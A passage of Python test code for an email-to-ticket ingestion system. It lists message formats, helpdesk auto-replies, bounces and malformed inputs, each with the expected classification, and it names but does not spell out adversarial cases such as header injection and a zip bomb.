MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="big"

--big
Content-Type: text/plain; charset=us-ascii

Removed; the recording of the page is attached.

--big
Content-Type: video/mp4; name="recording.mp4"
Content-Disposition: attachment; filename="recording.mp4"
Content-Transfer-Encoding: base64

""")
    tail = crlf("\n--big--\n")
    line = b"A" * 76 + b"\r\n"
    lines = (limit - len(head) - len(tail)) // len(line) + 2
    return head + line * lines + tail


def shapes(*, size_limit: int) -> list[Shape]:
    """Every shape, each with what must come of it. `size_limit`: the limit the test runs
    with (settings), so the large message is just over it."""
    ticket = Expected  # short name for the table below

    def over(t: Target) -> bytes:
        return too_large(t, size_limit)

    return [
        Shape("gmail_reply", gmail_reply, ticket(REPLY, FILED, TOKEN), "Gmail web"),
        Shape("outlook_reply", outlook_reply, ticket(REPLY, FILED, IN_REPLY_TO), "Outlook"),
        Shape("outlook_winmail", outlook_winmail, ticket(REPLY, FILED, TOKEN), "winmail.dat"),
        Shape("apple_mail", apple_mail_reply, ticket(REPLY, FILED, REFERENCES), "Apple Mail"),
        Shape("thunderbird", thunderbird_flowed, ticket(REPLY, FILED, TOKEN), "format=flowed"),
        Shape("forwarded_inline", forwarded_inline, ticket(REPLY, FILED, TOKEN), "Fwd inline"),
        Shape("forwarded_rfc822", forwarded_rfc822, ticket(REPLY, FILED, TOKEN), "attached"),
        Shape("quoted_printable", quoted_printable_body, ticket(REPLY, FILED, TOKEN), "QP"),
        Shape("base64_body", base64_body, ticket(REPLY, FILED, TOKEN), "base64 UTF-8"),
        Shape("iso_8859_1", iso_8859_1, ticket(REPLY, FILED, TOKEN), "Latin-1"),
        Shape("windows_1252", windows_1252, ticket(REPLY, FILED, TOKEN), "cp1252 8-bit"),
        Shape("shift_jis", shift_jis, ticket(REPLY, FILED, TOKEN), "Shift_JIS"),
        Shape("html_only", html_only, ticket(REPLY, FILED, TOKEN), "HTML, script, tracker"),
        Shape("ticket_in_subject", ticket_in_subject, ticket(REPLY, FILED, TICKET), ""),
        Shape("no_message_id", no_message_id, ticket(REPLY, FILED, TOKEN), "no Message-ID"),
        Shape("unrelated", unrelated, ticket(REPLY, INBOX), "matches nothing"),
        Shape("zendesk_ack", zendesk_ack, ticket(AUTO_REPLY, FILED, TOKEN, "48213"), "Zendesk"),
        Shape("freshdesk", freshdesk_ack, ticket(AUTO_REPLY, FILED, TOKEN, "73120"), ""),
        Shape("salesforce", salesforce_case, ticket(AUTO_REPLY, FILED, TOKEN, "00123456"), ""),
        Shape(
            "generic_ticket", generic_ticket_ack, ticket(AUTO_REPLY, FILED, TICKET, "TICKET"), ""
        ),
        Shape("out_of_office", out_of_office, ticket(AUTO_REPLY, FILED, TOKEN), "OOO"),
        Shape("postfix_bounce", postfix_bounce, ticket(BOUNCE, FILED, RETURNED), "Postfix"),
        Shape(
            "exchange_ndr",
            exchange_ndr,
            ticket(BOUNCE, FILED, RETURNED),
            "Exchange NDR",
        ),
        Shape(
            "gmail_bounce",
            gmail_bounce,
            ticket(BOUNCE, FILED, RETURNED),
            "Gmail DSN",
        ),
        Shape("missing_boundary", missing_boundary_end, ticket(UNKNOWN, QUARANTINED), ""),
        Shape(
            "bad_base64",
            bad_base64,
            ticket(UNKNOWN, QUARANTINED),
            "not base64",
        ),
        Shape(
            "header_injection",
            header_injection,
            ticket(REPLY, FILED, TOKEN),
            "read as the reply it is; no injected header takes effect",
        ),
        Shape("zip_bomb", zip_bomb, ticket(UNKNOWN, QUARANTINED), "declares 3 GiB"),
        Shape("too_large", over, ticket(UNKNOWN, QUARANTINED), "over the size limit"),
        Shape(
            "nul_bytes",
            nul_bytes,
            ticket(UNKNOWN, QUARANTINED),
            "NUL in header and body",
        ),
    ]


def expected_ticket(shape: Shape, t: Target) -> str:
    """The ticket number a shape must leave on its message ("TICKET": the target's own)."""
    return (
        t.ticket_number
        if shape.expected.ticket_number == "TICKET"
        else shape.expected.ticket_number
    )
